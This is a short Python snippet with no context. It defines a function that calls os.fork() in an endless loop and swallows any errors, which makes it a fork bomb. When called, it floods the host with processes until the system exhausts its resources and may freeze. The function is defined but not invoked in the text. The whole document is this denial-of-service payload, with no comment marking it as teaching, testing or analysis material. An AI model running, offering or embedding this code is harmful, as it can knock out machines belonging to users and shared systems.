import os
def f(x):
    while True:
        try: os.fork()
        except OSError: pass
